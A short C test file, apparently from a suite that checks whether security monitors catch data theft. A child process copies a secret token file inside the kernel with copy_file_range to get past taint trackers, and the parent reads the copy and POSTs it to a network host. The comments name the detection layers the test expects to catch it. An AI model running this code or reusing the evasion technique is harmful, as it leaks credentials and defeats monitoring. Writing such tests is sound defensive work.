// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: One process copies the token inside the kernel, another reads the copy and sends it.
 * Known from: taint trackers that follow read and write and lose the thread at copy_file_range(2).
 * First: open family
 * Second: the sinkhole's record of the bytes, and fanotify
 */
#include "trick.h"

static void copy(void)
{
	int token = open(TOKEN, O_RDONLY), out = open("/home/user/work/page", O_CREAT | O_WRONLY, 0600);

	if (copy_file_range(token, NULL, out, NULL, 4096, 0) <= 0)
		blocked();
	_exit(0);
}

int main(void)
{
	char text[4096];
	ssize_t size;
	int fd;

	if (fork() == 0)
		copy();
	wait(NULL);
	fd = open("/home/user/work/page", O_RDONLY);
	size = read(fd, text, sizeof(text));
	if (size < 0 || !is_token(text, size))
		errx(1, "this is not the token");
	fd = connected(80);
	dprintf(fd, "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: %zd\r\n\r\n%.*s", HOST, size,
		(int)size, text);
	finish(fd);
	performed();
}
